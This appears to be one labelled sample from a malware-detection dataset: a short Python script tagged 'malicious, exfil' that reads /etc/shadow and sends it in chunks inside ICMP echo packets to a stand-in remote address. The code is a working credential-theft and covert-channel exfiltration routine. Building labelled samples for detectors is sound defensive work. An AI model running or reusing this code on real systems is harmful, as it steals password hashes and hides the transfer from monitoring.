# label: malicious family=exfil techniques=T1003.008,T1048.003 lines=3-4,8
import socket, struct
data = open("/etc/shadow", "rb").read()
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
for i in range(0, len(data), 32):
    chunk = data[i:i+32]
    hdr = struct.pack("!BBHHH", 8, 0, 0, 1, i // 32)
    s.sendto(hdr + chunk, ("203.0.113.250", 0))
